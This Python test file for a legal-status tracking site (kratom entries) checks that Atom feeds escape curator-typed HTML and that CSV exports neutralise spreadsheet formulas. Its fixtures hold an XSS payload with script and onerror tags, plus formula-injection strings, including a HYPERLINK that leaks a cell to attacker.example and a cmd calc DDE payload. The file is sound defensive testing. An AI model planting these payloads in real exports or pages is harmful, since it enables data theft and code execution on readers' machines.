"""Text curators type reaches readers as text: feeds escape it as HTML, and the published CSV
and the API's neutralise cells a spreadsheet would run (the admin's export: tests/admin)."""

import csv
import io
import xml.etree.ElementTree as ET
from datetime import date

import pytest

from legality.exports import spreadsheet_safe, spreadsheet_text
from tests.factories import LegalStatusFactory

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"
SCRIPT = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("url", ["/changes/feed/", None])
def test_feeds_send_a_summary_with_markup_as_text(client, kratom, url):
    # A dated rule: the feeds list changes in the law, each from an entry's start.
    entry = LegalStatusFactory(substance=kratom, summary=SCRIPT, effective_from=date(2025, 7, 1))
    response = client.get(url or f"/j/{entry.jurisdiction.ocd_id}/feed/")

    summary = ET.fromstring(response.content).find(f"{ATOM}entry/{ATOM}summary")
    assert summary.get("type") == "html"
    # The reader decodes the XML, then renders HTML: it must find escaped markup, not tags.
    assert summary.text.startswith("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;&lt;script&gt;")
    assert "<script>" not in summary.text
    assert b"<script>" not in response.content


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_cell_is_prefixed_and_read_back_exactly(formula):
    assert spreadsheet_safe(formula) == "'" + formula
    assert spreadsheet_text(spreadsheet_safe(formula)) == formula
    for plain in ("Banned since 2016.", "'quoted'", "", "2016-05-10"):
        assert spreadsheet_text(spreadsheet_safe(plain)) == plain
    assert spreadsheet_safe(21) == 21


def test_the_published_csv_neutralises_formula_cells(client, kratom):
    LegalStatusFactory(substance=kratom, summary=FORMULAS[0], details=FORMULAS[1])
    response = client.get("/data/statuses.csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["summary"] == "'" + FORMULAS[0]
    assert rows[0]["details"] == "'" + FORMULAS[1]


def test_the_api_csv_neutralises_formula_cells(client, kratom):
    LegalStatusFactory(substance=kratom, summary=FORMULAS[0])
    response = client.get("/api/v1/statuses/", {"format": "csv"})

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["summary"] == "'" + FORMULAS[0]
